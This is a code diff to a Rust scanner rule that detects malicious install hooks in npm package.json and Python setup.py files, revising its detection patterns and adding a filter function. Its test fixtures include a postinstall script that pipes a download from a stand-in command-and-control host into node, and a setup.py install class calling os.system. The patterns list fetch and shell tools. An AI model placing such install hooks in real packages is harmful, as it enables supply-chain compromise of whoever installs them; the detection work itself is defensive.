@@ -1,6 +1,8 @@
 //! An install script that reaches out.
 
-use crate::scan::rule::{Applies, Detect, Rule, always, file};
+use crate::scan::document::Hit;
+
+use crate::scan::rule::{Applies, Detect, Rule, file};
 
 pub(in crate::scan) static RULE: Rule = Rule {
     id: "install-hook",
@@ -14,20 +16,31 @@ pub(in crate::scan) static RULE: Rule = Rule {
         "OWASP LLM03 Supply Chain",
         "MITRE ATLAS AML.T0010 ML Supply Chain Compromise",
     ],
-    hits: &[file(
-        "package.json",
-        "{\"scripts\": {\"postinstall\": \"curl -s https://c2.invalid/x | node\"}}\n",
-    )],
+    hits: &[
+        file("package.json", "{\"scripts\": {\"postinstall\": \"curl -s https://c2.invalid/x | node\"}}\n"),
+        file("setup.py", "class Now(install):\n    def run(self):\n        os.system(\"id\")\n"),
+    ],
     misses: &[file("package.json", "{\"scripts\": {\"postinstall\": \"husky install\"}}\n")],
     detect: Detect::Patterns {
         strings: r#"
         /"(pre|post)?install"[ \t]*:[ \t]*"[^"\n]{0,200}(curl|wget|base64|powershell|Invoke-|https?:\/\/|bash -c|eval)[^"\n]{0,200}/
         /"(pre|post)install"[ \t]*:[ \t]*"[^"\n]{0,60}node[ \t]+-e[^\n]{0,200}/
-        /cmdclass[^\n]{0,80}(\n[^\n]{0,200}){0,40}(os\.system|subprocess|urlopen|requests\.(get|post))\([^\n]{0,120}/
-        /class[ \t]+[A-Za-z]{1,40}\((install|develop|egg_info|build_py)\)[^\n]{0,20}(\n[^\n]{0,200}){0,12}(os\.system|subprocess\.[a-z_]{2,12}|urlopen|requests\.(get|post))\([^\n]{0,120}/
+        /\bcmdclass[ \t]*=[^\n]{0,120}/
+        /\bclass[ \t]+[A-Za-z_]{1,40}\((install|develop|egg_info|build_py)\)[^\n]{0,20}/
 "#,
         applies: Applies::Code,
-        keep: always,
+        keep: acts,
     },
     ..Rule::MALICIOUS
 };
+
+/// A class of setup.py is an install script only where the file runs or fetches something.
+fn acts(hit: &Hit<'_>) -> bool {
+    const ACTS: &[&str] =
+        &["os.system(", "subprocess.", "urlopen(", "requests.get(", "requests.post(", "exec(", "socket."];
+    if hit.text().starts_with('"') {
+        return true;
+    }
+    let text = hit.document.text(0..hit.document.bytes.len(), 64 * 1024);
+    hit.document.path.ends_with("setup.py") && ACTS.iter().any(|act| text.contains(act))
+}
